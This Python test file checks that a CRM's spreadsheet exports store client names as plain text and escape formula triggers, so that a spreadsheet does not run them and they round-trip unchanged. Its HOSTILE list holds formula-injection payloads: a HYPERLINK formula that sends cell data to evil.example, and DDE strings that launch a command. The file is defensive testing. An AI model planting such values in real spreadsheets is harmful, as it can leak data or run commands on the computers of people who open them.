"""Names that a spreadsheet would run as formulas are exported as text (OWASP) and read back exactly."""

from __future__ import annotations

import openpyxl
import pytest
import sqlalchemy as sa

from sbrflow.integrations.crm.writer import write_workbook
from sbrflow.models import Client
from sbrflow.models.db import unit_of_work
from sbrflow.tasks.crm_export import export_crm
from sbrflow.tasks.crm_import import import_workbook

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A2,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)", "'=already quoted", "'t Hooft B.V."]
TEAM = [{"code": "AB", "name": "Anna Bakker", "email": "anna@kantoor.example", "active": True}]


def _names() -> list[str]:
    with unit_of_work() as session:
        return list(session.scalars(sa.select(Client.name).order_by(Client.client_number)))


@pytest.fixture
def office(db, tmp_path):
    clients = [{"client_number": str(1001 + i), "name": name, "kind": "company", "status": "client",
                "legal_form": "bv"} for i, name in enumerate(HOSTILE)]
    report = import_workbook(write_workbook(tmp_path / "in.xlsx", clients, [], TEAM))
    assert report.written and not report.errors, report.rows()
    assert _names() == HOSTILE


def test_the_xlsx_export_holds_text_never_a_formula_and_reads_back_unchanged(office, tmp_path):
    path = tmp_path / "out.xlsx"
    export_crm(path)
    sheet = openpyxl.load_workbook(path)["Cliënten"]
    column = [cell.value for cell in sheet[1]].index("Naam")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == HOSTILE
    assert {cell.data_type for cell in cells} == {"s"}
    again = import_workbook(path)
    assert again.written and not again.errors and again.writes == 0
    assert _names() == HOSTILE


def test_the_csv_export_escapes_formula_triggers_and_reads_back_unchanged(office, tmp_path):
    export_crm(tmp_path / "out.csv")
    text = (tmp_path / "out-clienten.csv").read_text(encoding="utf-8-sig")
    for line in text.splitlines()[1:]:
        name = line.split(";")[1].strip('"')
        assert not name.startswith(("=", "+", "-", "@")), line
    assert ";'t Hooft B.V.;" in text and ";''=already quoted;" in text
    again = import_workbook([tmp_path / "out-clienten.csv", tmp_path / "out-contacten.csv",
                             tmp_path / "out-medewerkers.csv"])
    assert again.written and not again.errors and again.writes == 0, again.rows()
    assert _names() == HOSTILE
